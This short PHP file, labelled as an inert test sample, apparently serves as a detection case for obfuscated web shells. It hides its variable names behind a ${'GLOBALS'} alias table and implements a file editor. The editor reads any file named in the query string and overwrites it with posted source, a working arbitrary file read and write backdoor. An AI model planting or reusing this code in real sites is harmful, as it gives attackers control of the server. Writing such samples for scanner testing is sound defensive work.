<?php
// sample (inert test text): the same alias table spelt ${'GLOBALS'} (single quotes), an editor that
// saves the posted source over the file named in the query string
${'GLOBALS'}['aa1'] = 'file';
${'GLOBALS'}['bb2'] = 'src';
${${'GLOBALS'}['aa1']} = $_GET['f'];
${${'GLOBALS'}['bb2']} = $_POST['src'];
if (isset($_POST['src'])) {
    file_put_contents(${${'GLOBALS'}['aa1']}, ${${'GLOBALS'}['bb2']});
}
echo htmlspecialchars(file_get_contents(${${'GLOBALS'}['aa1']}));
